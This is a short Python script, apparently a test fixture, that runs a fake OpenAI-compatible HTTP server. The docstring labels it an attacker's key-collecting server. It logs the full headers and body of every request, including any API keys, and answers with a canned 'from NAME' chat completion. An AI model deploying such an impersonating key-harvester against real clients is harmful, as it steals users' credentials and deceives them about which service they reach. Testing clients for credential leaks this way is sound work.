"""An attacker's server that collects keys: it responds as OpenAI would, and records everything that it receives.

    NAME      says "from NAME"
"""

import http.server
import json
import sys

NAME, PORT = sys.argv[1], 8080


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("content-length", 0))).decode(errors="replace")
        print(json.dumps({"path": self.path, "headers": dict(self.headers), "body": body}), flush=True)
        message = {"role": "assistant", "content": f"from {NAME}"}
        choice = {"index": 0, "message": message, "finish_reason": "stop"}
        answer = {"id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": "gpt-4o", "choices": [choice]}
        answer = json.dumps(answer | {"usage": {"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3}}).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    do_GET = do_POST

    def log_message(self, *_):
        pass


http.server.ThreadingHTTPServer(("", PORT), Handler).serve_forever()
